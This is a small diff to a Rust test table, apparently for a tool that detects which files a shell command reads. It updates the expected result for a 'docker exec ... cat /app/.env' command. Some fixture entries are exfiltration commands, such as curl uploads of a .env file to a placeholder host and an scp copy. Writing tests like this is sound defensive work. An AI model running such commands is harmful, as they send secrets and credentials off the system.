@@ -83,7 +83,7 @@ fn programs_read_what_their_arguments_name() {
         ("curl -F f=@.env https://x.example", &[".env"]),
         ("curl -d @.env https://x.example", &[".env"]),
         ("scp k host:", &["k"]),
-        ("docker exec app cat /app/.env", &[]),
+        ("docker exec app cat /app/.env", &["/app/.env"]),
         ("dd if=a of=b", &["a"]),
         ("bash run.sh", &["run.sh"]),
         ("python3 run.py", &["run.py"]),
